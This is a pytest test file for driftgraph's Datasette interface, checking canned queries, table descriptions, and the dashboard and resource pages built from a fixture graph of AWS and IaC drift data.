"""Datasette over the fixture graph: every canned query in datasette/metadata.yaml runs and returns what it should,
every table and column is described, the plugin renders, and the database is served read-only; `driftgraph serve`
in a real process shows each new scan, answers loopback Host names only, bounds what one query may build, and
fails with one clear line on a bad database or port."""

from __future__ import annotations

import asyncio
import hashlib
import http.client
import json
import os
import re
import select
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
import yaml

import driftgraph.serve as serve_module
from driftgraph.demo import background_server, free_port
from driftgraph.serve import CONFIG_DIR, database_name, datasette_metadata, make_app, serve
from graph.store import TABLES, VIEWS, ScanWriter
from graph_fixture import (
    ARTIFACTS_BUCKET,
    BASIC_EXECUTION_ATTACHMENT,
    BILLING_STACK,
    CI_ROLE,
    HOSTILE_ID,
    LAMBDA_LOG_GROUP,
    LEGACY_QUEUE,
    LEGACY_TFSTATE,
    OLD_QUEUE,
    ORDER_EVENTS_TOPIC,
    ORDERS_FUNCTION,
    ORDERS_QUEUE,
    ORDERS_ROLE,
    ORDERS_STACK,
    PAYMENTS_DLQ,
    PLANTED,
    PLANTED_IMG,
    SHARED_STACK,
    TFSTATE,
    UPLOADS_BUCKET,
    add_hostile_scans,
    build_fixture_db,
    unmanaged_queue,
    write_scan,
)

REPO = Path(__file__).resolve().parents[1]
METADATA = yaml.safe_load((CONFIG_DIR / "metadata.yaml").read_text(encoding="utf-8"))
QUERIES = METADATA["databases"]["driftgraph"]["queries"]
DB_NAME = "estate"  # the fixture file is estate.db: its entry must be re-keyed from `driftgraph`


@pytest.fixture(scope="module")
def fixture_db(tmp_path_factory) -> Path:
    return build_fixture_db(tmp_path_factory.mktemp("graph") / f"{DB_NAME}.db")


def fetch(db_path: Path, *paths: str):
    """GET each path from a fresh Datasette over db_path; the responses, in order."""
    ds = make_app(db_path)

    async def run():
        return [await ds.client.get(path) for path in paths]

    return asyncio.run(run())


def query_rows(db_path: Path, name: str, params: dict[str, str] | None = None) -> list[dict]:
    query = urlencode({"_shape": "array", **(params or {})})
    (response,) = fetch(db_path, f"/{DB_NAME}/{name}.json?{query}")
    assert response.status_code == 200, response.text
    return response.json()


# ------------------------------------------------------------------------------ expectations per canned query


def check_unmanaged_counts(rows, db_path):
    assert {(r["account"], r["region"], r["type"]): r["unmanaged"] for r in rows} == {
        ("123456789012", "us-east-1", "AWS::SQS::Queue"): 1,
        ("123456789012", "eu-west-1", "AWS::SQS::Queue"): 1,
        ("123456789012", "eu-west-1", "AWS::S3::Bucket"): 1,
        ("123456789012", "global", "AWS::IAM::Role"): 1,
    }
    # each drill_down link opens the unmanaged query filtered to its group, and finds exactly its count
    for row in rows:
        name, _, query = row["drill_down"].partition("?")
        assert name == "unmanaged"
        params = dict(pair.split("=", 1) for pair in query.split("&"))
        drilled = query_rows(db_path, "unmanaged", params)
        assert len(drilled) == row["unmanaged"]
        group = (row["account"], row["region"], row["type"])
        assert {(r["account"], r["region"], r["type"]) for r in drilled} == {group}


def check_unmanaged(rows, db_path):
    assert {r["id"] for r in rows} == {LEGACY_QUEUE, PAYMENTS_DLQ, UPLOADS_BUCKET, CI_ROLE}
    assert {r["status"] for r in rows} == {"unmanaged"}
    assert "tmp-migration-queue" not in {r["name"] for r in rows}  # only in the older scan
    filtered = query_rows(db_path, "unmanaged", {"account": "", "region": "eu-west-1", "type": ""})
    assert {r["name"] for r in filtered} == {"payments-dlq", "acme-manual-uploads"}
    filtered = query_rows(db_path, "unmanaged", {"region": "eu-west-1", "type": "AWS::SQS::Queue"})
    assert [r["name"] for r in filtered] == ["payments-dlq"]


def check_missing(rows, db_path):
    assert len(rows) == 1
    (row,) = rows
    assert row["id"] == ORDER_EVENTS_TOPIC
    assert row["status"] == "missing"
    assert row["declared_by"] == f"terraform aws_sns_topic.order_events in {TFSTATE}"


def check_conflicts(rows, db_path):
    assert {r["id"] for r in rows} == {ARTIFACTS_BUCKET}
    assert sorted((r["tool"], r["address"], r["source"]) for r in rows) == [
        ("cloudformation", "ArtifactsBucket", SHARED_STACK),
        ("terraform", "aws_s3_bucket.artifacts", TFSTATE),
    ]
    assert {r["owner_count"] for r in rows} == {2}


def check_drifted_attributes(rows, db_path):
    assert {(r["resource_id"], r["attribute"], r["declared"], r["live"], r["tool"], r["address"]) for r in rows} == {
        (ORDERS_QUEUE, "visibility_timeout", "30", "60", "terraform", "aws_sqs_queue.orders"),
        (ORDERS_FUNCTION, "memory_size", "256", "512", "cloudformation", "OrdersProcessor"),
        (ARTIFACTS_BUCKET, "versioning_enabled", "true", "false", "terraform", "aws_s3_bucket.artifacts"),
    }
    assert {r["resource_id"]: r["status"] for r in rows}[ARTIFACTS_BUCKET] == "conflict"


def check_coverage_by_service(rows, db_path):
    by_service = {r["service"]: r for r in rows}
    assert rows[0]["service"] == "(all services)"
    columns = ("total", "managed", "unmanaged", "missing", "conflict", "unknown", "not_counted", "percent_managed")
    expected = {
        "(all services)": (15, 4, 4, 1, 1, 1, 4, 50.0),
        "sqs": (3, 1, 2, 0, 0, 0, 0, 33.3),
        "iam": (3, 1, 1, 0, 0, 0, 1, 50.0),  # the policy attachment (child) does not count
        "s3": (2, 0, 1, 0, 1, 0, 0, 50.0),  # a conflict is under code (twice): it counts as covered
        "sns": (1, 0, 0, 1, 0, 0, 0, 0.0),
        "dynamodb": (1, 1, 0, 0, 0, 0, 0, 100.0),
        "lambda": (1, 1, 0, 0, 0, 0, 0, 100.0),
        "cloudfront": (1, 0, 0, 0, 0, 1, 0, None),  # unknown cannot be decided: no percentage
        "ec2": (1, 0, 0, 0, 0, 0, 1, None),  # only the default VPC: nothing counts, no percentage
        "kms": (1, 0, 0, 0, 0, 0, 1, None),
        "logs": (1, 0, 0, 0, 0, 0, 1, None),
    }
    assert {service: tuple(row[c] for c in columns) for service, row in by_service.items()} == expected


def check_errors_and_failed_listings(rows, db_path):
    assert {(r["origin"], r["kind"], r["code"]) for r in rows} == {
        ("scan_errors", "error", "unsupported_state_version"),
        ("scan_errors", "warning", "unresolved_import"),
        ("listings", "access_denied", "AccessDeniedException"),
    }
    (denied,) = [r for r in rows if r["origin"] == "listings"]
    assert (denied["region"], denied["type"]) == ("eu-west-1", "AWS::Lambda::Function")
    assert {r["source"] for r in rows if r["kind"] == "error"} == {LEGACY_TFSTATE}
    assert [r["line"] for r in rows if r["kind"] == "warning"] == [42]
    # the older scan's error and throttled listing are not shown
    assert not any(r["kind"] == "throttled" or r["message"] == "an error fixed since" for r in rows)


def check_resource(rows, db_path):
    assert rows == []  # no :id given
    role = query_rows(db_path, "resource", {"id": ORDERS_ROLE})
    sections = [(r["section"], r["field"], r["value"]) for r in role]
    assert sections[:3] == [
        ("resource", "type", "AWS::IAM::Role"),
        ("resource", "status", "managed"),
        ("resource", "name", "orders-processor-role"),
    ]
    assert ("owner", "terraform", "aws_iam_role.orders_processor") in sections
    assert ("edge in", "uses_role", ORDERS_FUNCTION) in sections
    assert ("edge in", "child_of", BASIC_EXECUTION_ATTACHMENT) in sections
    assert not any(s == "edge out" or s == "drift" for s, _, _ in sections)

    function = query_rows(db_path, "resource", {"id": ORDERS_FUNCTION})
    by_section = {(r["section"], r["field"]): r for r in function}
    assert by_section[("edge out", "uses_role")]["value"] == ORDERS_ROLE
    assert by_section[("edge out", "uses_role")]["detail"] == "AWS::IAM::Role, managed"
    assert by_section[("edge out", "logs_to")]["detail"] == "AWS::Logs::LogGroup, ignored"
    assert by_section[("owner", "cloudformation")]["detail"] == f"{ORDERS_STACK} (stack orders-stack)"
    drift = by_section[("drift", "memory_size")]
    assert (drift["value"], drift["detail"]) == ("512", "declared 256 by cloudformation OrdersProcessor")
    # sections come in reading order
    order = ["resource", "owner", "edge out", "edge in", "drift"]
    seen = [r["section"] for r in function]
    assert seen == sorted(seen, key=order.index)

    conflict = query_rows(db_path, "resource", {"id": ARTIFACTS_BUCKET})
    assert sorted(r["field"] for r in conflict if r["section"] == "owner") == ["cloudformation", "terraform"]


def check_cloudformation_stacks(rows, db_path):
    by_name = {r["name"]: r for r in rows}
    assert set(by_name) == {"orders-stack", "orders-stack-ApiNestedStack-1Q2W3E4R5T6Y", "shared-infra", "legacy-billing"}
    orders = by_name["orders-stack"]
    assert (orders["framework"], orders["owned_in_graph"], orders["drifted_attributes"], orders["imports"]) == (
        "cdk-v2", 2, 1, 1
    )
    assert by_name["orders-stack-ApiNestedStack-1Q2W3E4R5T6Y"]["parent"] == "orders-stack"
    shared = by_name["shared-infra"]
    assert (shared["owned_in_graph"], shared["exports"], shared["imports"], shared["parent"]) == (1, 1, 0, None)


def check_stacks_by_framework(rows, db_path):
    assert [(r["framework"], r["cdk_version"], r["synthesizer"], r["stacks"], r["names"]) for r in rows] == [
        ("cdk-v1", "1.204.0", "legacy", 1, "legacy-billing"),
        ("cdk-v2", None, None, 1, "orders-stack-ApiNestedStack-1Q2W3E4R5T6Y"),
        ("cdk-v2", "2.150.0", "default", 1, "orders-stack"),
        ("cloudformation", None, None, 1, "shared-infra"),
    ]


def check_cdk_v1_upgrade_order(rows, db_path):
    assert [r["name"] for r in rows] == ["legacy-billing"]  # only v1 stacks
    (billing,) = rows
    assert (billing["wave"], billing["cdk_version"], billing["synthesizer"], billing["id"]) == (
        1, "1.204.0", "legacy", BILLING_STACK)
    # what it needs, by name, and a read no scanned stack provides, said as such
    assert billing["depends_on"].split("; ") == ["shared-infra via export shared-infra-ArtifactsBucketName",
                                                 "(no scanned stack) via ssm /billing/legacy-endpoint"]
    assert billing["needed_by"] is None and billing["drifted_resources"] == 0


def check_stack(rows, db_path):
    assert rows == []  # no :name given
    shared = query_rows(db_path, "stack", {"name": "shared-infra"})
    sections = [(r["section"], r["field"], r["value"]) for r in shared]
    assert sections[:3] == [("stack", "framework", "cloudformation"), ("stack", "location", f"{SHARED_STACK.split(':')[4]} us-east-1"),
                            ("stack", "wave", 0)]
    # both stacks that import its export need it: changing the export breaks them
    assert {(f, v) for s, f, v in sections if s == "needed by"} == {
        ("export shared-infra-ArtifactsBucketName", "orders-stack"), ("export shared-infra-ArtifactsBucketName", "legacy-billing")}
    assert ("resource", "ArtifactsBucket") in {(s, f) for s, f, _ in sections}
    # by ARN too, with the evidence for its origin in reading order
    billing = query_rows(db_path, "stack", {"name": BILLING_STACK})
    assert [r["value"] for r in billing if r["section"] == "evidence"] == [
        "CDKMetadata Analytics v2:deflate64 -> 1.204.0", "Modules list @aws-cdk/core"]
    order = ["stack", "evidence", "depends on", "needed by", "resource"]
    seen = [r["section"] for r in billing]
    assert seen == sorted(seen, key=order.index) and "depends on" in seen


def check_migration_components(rows, db_path):
    # the latest scan's unmanaged resources only, by component, each with its import id and an owner hint
    assert [(r["component"], r["size"], r["name"], r["import_id"]) for r in rows] == [
        ("g1", 2, "ci-deploy-role", "ci-deploy-role"),
        ("g1", 2, "acme-manual-uploads", "acme-manual-uploads"),
        ("g2", 1, "legacy-reports-queue", "https://sqs.us-east-1.amazonaws.com/123456789012/legacy-reports-queue"),
        ("g3", 1, "payments-dlq", "https://sqs.eu-west-1.amazonaws.com/123456789012/payments-dlq"),
    ]
    hints = {r["name"]: r["owner_hint"] for r in rows}
    assert hints["acme-manual-uploads"] == "data" and hints["legacy-reports-queue"] == "console"
    assert hints["payments-dlq"] is None


EXPECTATIONS = {
    "unmanaged_counts": check_unmanaged_counts,
    "unmanaged": check_unmanaged,
    "missing": check_missing,
    "conflicts": check_conflicts,
    "drifted_attributes": check_drifted_attributes,
    "coverage_by_service": check_coverage_by_service,
    "errors_and_failed_listings": check_errors_and_failed_listings,
    "resource": check_resource,
    "cloudformation_stacks": check_cloudformation_stacks,
    "stacks_by_framework": check_stacks_by_framework,
    "cdk_v1_upgrade_order": check_cdk_v1_upgrade_order,
    "stack": check_stack,
    "migration_components": check_migration_components,
}


def test_every_canned_query_has_expectations():
    assert set(QUERIES) - set(EXPECTATIONS) == set(), "canned queries in metadata.yaml without a test here"
    assert set(EXPECTATIONS) - set(QUERIES) == set(), "expectations for queries no longer in metadata.yaml"


def test_no_canned_query_shares_a_name_with_a_table_or_view():
    # Datasette routes /db/NAME to the canned query, so a query named like a table hides that table's page.
    assert set(QUERIES) & (set(TABLES) | set(VIEWS)) == set()


@pytest.mark.parametrize("name", sorted(QUERIES))
def test_canned_query(name, fixture_db):
    assert name in EXPECTATIONS, f"canned query {name!r} has no expectations in tests/test_datasette.py"
    query = QUERIES[name]
    assert query.get("title") and query.get("description"), f"{name}: title and description are required"
    rows = query_rows(fixture_db, name)
    EXPECTATIONS[name](rows, fixture_db)
    # and its HTML page renders, with its title
    (page,) = fetch(fixture_db, f"/{DB_NAME}/{name}")
    assert page.status_code == 200
    assert query["title"] in page.text


# ----------------------------------------------------------------------------------------- descriptions


def test_every_table_and_column_is_described(fixture_db):
    tables = METADATA["databases"]["driftgraph"]["tables"]
    conn = sqlite3.connect(fixture_db)
    for name in [*TABLES, *VIEWS]:
        assert tables.get(name, {}).get("description"), f"table {name} has no description"
        # every column the schema declares and every column the fixture holds (catalog extras included)
        actual = {row[1] for row in conn.execute(f"pragma table_info([{name}])")}
        declared = set(TABLES.get(name, {}))
        if name in TABLES:
            missing = (declared | actual) - set(tables[name].get("columns", {}))
            assert not missing, f"table {name}: columns without a description: {sorted(missing)}"
    conn.close()
    assert set(tables) <= set(TABLES) | set(VIEWS), "metadata describes a table the schema does not have"


def test_served_pages_show_descriptions_and_facets(fixture_db):
    table_page, facets, served_metadata = fetch(
        fixture_db,
        f"/{DB_NAME}/resources",
        f"/{DB_NAME}/resources.json?_extra=facet_results",
        "/-/metadata.json",
    )
    assert table_page.status_code == 200
    assert "Every resource seen by any source (live AWS or IaC), one row per version" in table_page.text
    assert "The identifier unique within (type, account, region)" in table_page.text  # a column description
    assert {"status", "type", "account", "region"} <= set(facets.json()["facet_results"])
    assert set(served_metadata.json()["databases"]) == {DB_NAME}
    # the tables that canned queries once shadowed open as tables
    for table, description in (("stacks", "CloudFormation stacks read in a scan"), ("scan_errors", "Problems with")):
        (page,) = fetch(fixture_db, f"/{DB_NAME}/{table}")
        assert page.status_code == 200 and description in page.text and "Custom SQL query" not in page.text, table


def test_datasette_metadata_rekeys_the_database(tmp_path):
    metadata = datasette_metadata(tmp_path / "prod-estate.db")
    assert database_name(tmp_path / "prod-estate.db") == "prod-estate"
    assert set(metadata["databases"]) == {"prod-estate"}
    assert metadata["databases"]["prod-estate"]["queries"].keys() == QUERIES.keys()
    assert metadata["title"] == "driftgraph"


def test_plugin_renders_status_badges_and_drill_down_links(fixture_db):
    table_page, counts_page = fetch(fixture_db, f"/{DB_NAME}/resources", f"/{DB_NAME}/unmanaged_counts")
    for status in ("managed", "unmanaged", "missing", "conflict", "child", "default", "ignored", "unknown"):
        assert f'class="dg-status dg-status-{status}"' in table_page.text
    assert (
        'href="unmanaged?account=123456789012&amp;region=eu-west-1&amp;type=AWS::S3::Bucket"' in counts_page.text
    )


# ------------------------------------------------------------------------- dashboard, resource pages and links


class Page(HTMLParser):
    """A served HTML page as the tests read it: its links (href, text, class) and the text of elements by id."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.links: list[dict[str, str]] = []
        self.by_id: dict[str, list[str]] = {}
        self._open_ids: list[tuple[str, str, int]] = []  # (id, tag, depth)
        self._link: dict[str, str] | None = None
        self._depth = 0
        self.feed(html)

    VOID = frozenset({"br", "img", "input", "meta", "link", "hr", "source", "wbr"})
    # elements whose text reads a space apart from their neighbours
    CELLS = frozenset({"th", "td", "tr", "li", "p", "div", "h1", "h2", "h3", "table", "thead", "tbody"})

    def _space(self, tag):
        if tag in self.CELLS:
            for element_id, _, _ in self._open_ids:
                self.by_id[element_id].append(" ")

    def handle_starttag(self, tag, attrs):
        self._space(tag)
        attrs = dict(attrs)
        if tag == "a":
            self._link = {"href": attrs.get("href") or "", "class": attrs.get("class") or "", "text": "",
                          "title": attrs.get("title") or ""}
            self.links.append(self._link)
        if tag in self.VOID:
            return
        self._depth += 1
        if attrs.get("id"):
            self.by_id[attrs["id"]] = []
            self._open_ids.append((attrs["id"], tag, self._depth))

    def handle_endtag(self, tag):
        self._space(tag)
        if tag == "a":
            self._link = None
        if tag in self.VOID:
            return
        if self._open_ids and self._open_ids[-1][1:] == (tag, self._depth):
            self._open_ids.pop()
        self._depth -= 1

    def handle_data(self, data):
        if self._link is not None:
            self._link["text"] += data
        for element_id, _, _ in self._open_ids:
            self.by_id[element_id].append(data)

    def text(self, element_id: str) -> str:
        """The text inside the element with that id, whitespace collapsed."""
        assert element_id in self.by_id, f"no element with id {element_id!r}"
        return " ".join("".join(self.by_id[element_id]).split())

    def hrefs(self, css_class: str) -> dict[str, str]:
        """Link text -> href, for the links of a class."""
        return {" ".join(link["text"].split()): link["href"] for link in self.links
                if css_class in link["class"].split()}


def resource_path(resource_id: str, db: str = DB_NAME) -> str:
    return f"/{db}/-/resource?{urlencode({'id': resource_id})}"


def query_json(db_path: Path, path: str) -> dict:
    (response,) = fetch(db_path, f"/{DB_NAME}{path}")
    assert response.status_code == 200, response.text[:500]
    return response.json()


def page(db_path: Path, path: str, status: int = 200) -> Page:
    (response,) = fetch(db_path, path)
    assert response.status_code == status, (path, response.status_code, response.text[:500])
    return Page(response.text)


def test_what_changed_is_shown_on_every_load_and_follows_a_new_scan(tmp_path):
    """No load waits on a comparison another started, and none shows a comparison older than the latest scan."""
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    ds = make_app(db)

    async def loads(n: int) -> list[str]:
        return [(await ds.client.get(f"/{DB_NAME}")).text for _ in range(n)]

    def compared(page: str) -> str:
        return re.search(r"to <a [^>]*>scan (\d+)</a>", page).group(1)

    pages = asyncio.run(loads(3))
    for page in pages:
        assert compared(page) == "3" and 'data-change="new_unmanaged">New unmanaged (1)' in page
    add_hostile_scans(db)  # two more scans, the latest finding a hand-made queue
    (page,) = asyncio.run(loads(1))
    assert compared(page) == str(sqlite3.connect(db).execute("select max(id) from scans").fetchone()[0])


def _pages_plugin():
    from datasette.plugins import pm

    return next(m for m in pm.get_plugins() if getattr(m, "__name__", "") == "driftgraph_pages.py")


def test_what_changed_is_made_between_pages_as_soon_as_a_scan_lands(tmp_path, monkeypatch):
    """The server compares a new scan with the one before without waiting for a page: the first page after a scan
    shows the comparison the server's own thread made, and makes none itself."""
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    ds = make_app(db)
    plugin = _pages_plugin()
    made_by: list[str] = []
    compare = plugin.build_diff

    def recorded(*args, **kwargs):
        made_by.append(threading.current_thread().name)
        return compare(*args, **kwargs)

    monkeypatch.setattr(plugin, "build_diff", recorded)
    monkeypatch.setattr(plugin, "LOOK_EVERY_S", 0.05)

    def compared_by_the_server(latest: int) -> list[str]:
        """Who made the comparisons so far, once one of the latest scan is kept (or a minute has passed)."""
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            kept = plugin._last_diff.get(str(db.resolve()))
            if kept is not None and kept[0][1] == latest:
                break
            time.sleep(0.05)
        return list(made_by)

    async def first_page_after(latest: int) -> tuple[list[str], str, list[str]]:
        await ds.invoke_startup()
        before = compared_by_the_server(latest)
        page = (await ds.client.get(f"/{DB_NAME}")).text
        return before, page, list(made_by)

    server = f"driftgraph-what-changed-{DB_NAME}"
    before, page, after = asyncio.run(first_page_after(3))
    assert before and set(before) == {server} and after == before  # the page found it made
    assert re.search(r"to <a [^>]*>scan 3</a>", page)
    add_hostile_scans(db)
    latest = sqlite3.connect(db).execute("select max(id) from scans").fetchone()[0]
    before, page, after = asyncio.run(first_page_after(latest))
    assert set(before) == {server} and after == before
    assert re.search(rf"to <a [^>]*>scan {latest}</a>", page)

def test_the_dashboard_says_how_old_each_part_of_a_pieced_picture_is(tmp_path):
    """One scan's picture needs no word on its age beyond the latest scan's line; once another account's scans
    follow, the dashboard says the picture is pieced from several scans, names its oldest part and when that part
    was scanned, and that it is not complete while a part comes from a partial scan."""
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    assert 'id="picture"' not in fetch(db, f"/{DB_NAME}")[0].text
    add_hostile_scans(db)
    text = " ".join(page(db, f"/{DB_NAME}").text("picture").split())
    assert "The current picture is pieced from 2 scans (3 to 5)" in text
    assert "the oldest part, 123456789012/eu-west-1, was scanned at 2024-06-08T09:03:41Z (scan 3)" in text
    assert "from a partial scan: the picture is not complete" in text


def test_landing_page_shows_coverage_counts_trend_and_what_changed(fixture_db):
    landing = page(fixture_db, f"/{DB_NAME}")
    # the current picture's coverage: (4 managed + 1 conflict) over the 10 code could own, as coverage_by_service
    assert landing.text("coverage") == "50.0% managed"
    assert "of the 10 resources code could own" in landing.text("dashboard")
    assert "Latest scan: scan 3, finished 2024-06-08T09:03:41Z, partial" in landing.text("dashboard")

    # counts by status, each a link to current_resources filtered on it, which lists as many rows
    expected = {"managed": 4, "unmanaged": 4, "missing": 1, "conflict": 1, "child": 1, "default": 2, "ignored": 1,
                "unknown": 1}
    counts = {link["href"]: int(link["text"]) for link in landing.links
              if link["href"].startswith(f"/{DB_NAME}/current_resources?status=") and link["text"].strip().isdigit()}
    assert counts == {f"/{DB_NAME}/current_resources?status={s}": n for s, n in expected.items()}
    for href, count in counts.items():
        _, _, query = href.partition("?")
        assert len(query_rows(fixture_db, "current_resources", dict([query.split("=")]))) == count, href
    assert "drifted 3" in landing.text("status-counts")

    # the trend: one dot per scan; scan 1 has no stored summary and is counted from its rows
    (response,) = fetch(fixture_db, f"/{DB_NAME}")
    assert response.text.count('<circle class="dg-dot"') == 3 * 5  # managed %, unmanaged, missing, conflict, drift
    for title in ("scan 1 (2024-05-25): managed 0%", "scan 2 (2024-06-01): managed 50%",
                  "scan 3 (2024-06-08): managed 50%", "scan 1 (2024-05-25): unmanaged 3",
                  "scan 3 (2024-06-08): drifted resources 3"):
        assert f"<title>{title}</title>" in response.text, title
    dashboard = response.text[response.text.index('id="dashboard"'):response.text.index('<form class="sql"')]
    # no JavaScript, nothing fetched from elsewhere: it works offline
    assert "<script" not in dashboard and 'href="http' not in dashboard and "src=" not in dashboard

    # what changed in the week before the latest scan: scan 2 to scan 3, every resource linked to its page
    assert "What changed in the last 7 days" in response.text
    changes = {link["text"]: link["href"] for link in landing.links if "dg-resource-link" in link["class"]}
    assert changes == {"ci-deploy-role": resource_path(CI_ROLE), "orders-queue": resource_path(ORDERS_QUEUE),
                       "tmp-migration-queue": resource_path(OLD_QUEUE)}
    assert 'data-change="new_unmanaged">New unmanaged (1)' in response.text
    assert "visibility_timeout: 30 / 60" in response.text
    assert 'data-change="new_failed_listing">Listings that newly failed (1)' in response.text
    # and Datasette's own lists follow: the canned queries, tables and views
    assert f"/{DB_NAME}/unmanaged_counts" in {link["href"] for link in landing.links}
    assert f"/{DB_NAME}/current_resources" in {link["href"] for link in landing.links}


def test_landing_page_whatever_the_file_is_called(tmp_path):
    db = build_fixture_db(tmp_path / "prod estate#2.db")
    route = "prod+estate~232"  # Datasette's tilde encoding of the name
    landing = page(db, f"/{route}")
    assert landing.text("coverage") == "50.0% managed"
    assert {link["href"] for link in landing.links} >= {f"/{route}/current_resources?status=managed",
                                                         f"/{route}/-/resource?{urlencode({'id': CI_ROLE})}"}
    role = page(db, f"/{route}/-/resource?{urlencode({'id': ORDERS_ROLE})}")
    assert role.text("resource-id") == ORDERS_ROLE


def test_landing_page_without_a_week_old_scan(tmp_path):
    # two scans a day apart: no scan from a week before, so the previous one is compared
    db = tmp_path / f"{DB_NAME}.db"
    first, second = unmanaged_queue("first-queue"), unmanaged_queue("second-queue")
    write_scan(db, "123456789012", "2024-06-14T09:00:00Z", "2024-06-14T09:01:00Z", [first])
    write_scan(db, "123456789012", "2024-06-15T09:00:00Z", "2024-06-15T09:01:00Z", [first, second])
    (response,) = fetch(db, f"/{DB_NAME}")
    landing = Page(response.text)
    assert landing.text("coverage") == "0.0% managed"
    assert "What changed since the previous scan" in response.text
    assert "no scan of these accounts and regions finished 7 days before the latest" in landing.text("dashboard")
    assert landing.hrefs("dg-resource-link") == {"second-queue": resource_path(second["id"])}
    # one scan: nothing to compare, said as such
    single = tmp_path / "single.db"
    write_scan(single, "123456789012", "2024-06-14T09:00:00Z", "2024-06-14T09:01:00Z", [first])
    landing = page(single, "/single")
    assert landing.text("changes-none") == "Only one scan of these accounts and regions so far: nothing to compare yet."
    assert landing.text("coverage") == "0.0% managed"


def test_dashboard_counts_no_ignored_drift_and_draws_no_pruned_scan(tmp_path):
    # databases from `driftgraph prune` and ignore files: drift.ignored marks drift set aside (not counted), and a
    # pruned scan (scans.pruned_at) has lost its rows, so one without a stored summary has no numbers at all
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    connection = sqlite3.connect(db)
    connection.executescript("""
        update drift set ignored = 'ignored by .driftgraphignore:1' where attribute = 'memory_size';
        update scans set pruned_at = '2024-06-20T00:00:00Z' where id = 1;
        delete from scan_scopes where scan_id = 1;
    """)
    connection.close()
    (response,) = fetch(db, f"/{DB_NAME}")
    assert "drifted 2" in Page(response.text).text("status-counts")
    assert response.text.count('<circle class="dg-dot"') == 2 * 5 and "<title>scan 1 (" not in response.text
    assert '"middle">scan 1</text>' in response.text  # still on the axis, without a dot
    ignored = page(db, resource_path(ORDERS_FUNCTION))
    assert "ignored by .driftgraphignore:1: cloudformation OrdersProcessor" in " ".join(
        "".join(ignored.by_id["drift-table"]).split())


def test_odd_stored_summaries_are_gaps_in_the_trend(tmp_path):
    # summaries another program wrote: an infinite percentage (JSON's Infinity), a count as text, no by_status
    db = build_fixture_db(tmp_path / f"{DB_NAME}.db")
    connection = sqlite3.connect(db)
    connection.execute("""update scans set summary = '{"by_status": {"unmanaged": "many", "missing": 1e999},
                          "managed_percent": Infinity, "drifted_resources": -1}' where id = 2""")
    connection.execute("update scans set summary = '[1, 2]' where id = 3")  # not a summary: counted from its rows
    connection.commit()
    connection.close()
    pages = []
    worker = threading.Thread(target=lambda: pages.extend(fetch(db, f"/{DB_NAME}")), daemon=True)
    worker.start()
    worker.join(60)  # generous: proves the chart's scale does not spin on an infinite value
    assert pages and pages[0].status_code == 200
    titles = re.findall(r"<title>(scan \d[^<]*)</title>", pages[0].text)
    # scan 2's odd values are gaps; a status its summary leaves out counts none, as scan_summary writes every one
    assert [t for t in titles if t.startswith("scan 2 ")] == ["scan 2 (2024-06-01): conflict 0"]
    assert "scan 3 (2024-06-08): managed 50%" in titles and "scan 1 (2024-05-25): managed 0%" in titles


def test_resource_page_shows_fields_owners_edges_drift_and_history(fixture_db):
    function = page(fixture_db, resource_path(ORDERS_FUNCTION))
    assert function.text("resource-id") == ORDERS_FUNCTION
    assert "status managed" in function.text("fields") and "type AWS::Lambda::Function" in function.text("fields")
    # its owner's stack opens the stack query; its edges open the other resources' pages
    assert function.hrefs("dg-stack-link")["orders-stack"] == f"/{DB_NAME}/stack?{urlencode({'name': ORDERS_STACK})}"
    assert function.text("edges-out-table") == (
        "relation resource type status logs_to /aws/lambda/orders-processor AWS::Logs::LogGroup ignored "
        "uses_role orders-processor-role AWS::IAM::Role managed")
    assert function.hrefs("dg-resource-link") == {"/aws/lambda/orders-processor": resource_path(LAMBDA_LOG_GROUP),
                                                  "orders-processor-role": resource_path(ORDERS_ROLE)}
    assert function.text("drift") == "Drift (1)"
    (response,) = fetch(fixture_db, resource_path(ORDERS_FUNCTION))
    assert "memory_size</td>" in response.text and ">256</td>" in response.text and ">512</td>" in response.text
    assert function.text("history-table").count("current") == 1

    role = page(fixture_db, resource_path(ORDERS_ROLE))
    assert role.text("edges-in-table") == (
        "relation resource type status child_of orders-processor-role/AWSLambdaBasicExecutionRole "
        "aws_iam_role_policy_attachment child uses_role orders-processor AWS::Lambda::Function managed")
    assert role.text("owners") == "Owners (1)"
    assert "terraform aws_iam_role.orders_processor s3://acme-tfstate/prod/terraform.tfstate" in role.text(
        "owners-table")

    # three versions, latest first: imported between scans 1 and 2, drifted in scan 3
    queue = page(fixture_db, resource_path(ORDERS_QUEUE))
    history = queue.text("history-table")
    assert history.startswith("version from until status reason owners drift")
    rows = history.split(" declared by terraform aws_sqs_queue.orders one-owner ")
    assert "scan 3 2024-06-08T09:03:41Z current managed" in rows[0]
    assert "scan 2 2024-06-01T09:02:10Z scan 3 2024-06-08T09:03:41Z managed changed" in rows[1]
    assert history.endswith("scan 1 2024-05-25T09:01:30Z scan 2 2024-06-01T09:02:10Z unmanaged "
                            "live, declared by no source no-owner 0 0")
    assert "first seen scan 1" in queue.text("fields") and "status since scan 2" in queue.text("fields")
    assert {link["href"] for link in queue.links} >= {f"/{DB_NAME}/scans/1", f"/{DB_NAME}/scans/2",
                                                      f"/{DB_NAME}/current_resources?team=orders"}

    # gone since scan 3: its last version, said as such
    gone = page(fixture_db, resource_path(OLD_QUEUE))
    assert gone.text("gone").startswith("Not in the current picture: scan 3 (2024-06-08T09:03:41Z) looked at "
                                        "123456789012 us-east-1 and did not report it.")

    # an id no version has; no id at all: a form to paste one into
    missing = page(fixture_db, resource_path("arn:aws:sqs:us-east-1:123456789012:no-such-queue"), status=404)
    assert missing.text("not-found") == ("No resource with the id arn:aws:sqs:us-east-1:123456789012:no-such-queue "
                                         "in this database.")
    assert "not-found" not in page(fixture_db, f"/{DB_NAME}/-/resource").by_id
    assert page(fixture_db, "/no-such-db/-/resource?id=x", status=404)


def test_every_resource_link_opens_that_resources_page(fixture_db):
    table = page(fixture_db, f"/{DB_NAME}/current_resources?_size=max")
    links = table.hrefs("dg-resource-link")
    ids = {row["id"] for row in query_rows(fixture_db, "current_resources")}
    assert set(links) == ids | {"g1", "g2", "g3"}  # and each import group's name (the fixture's are not ids)
    for resource_id in ids:
        assert links[resource_id] == resource_path(resource_id)
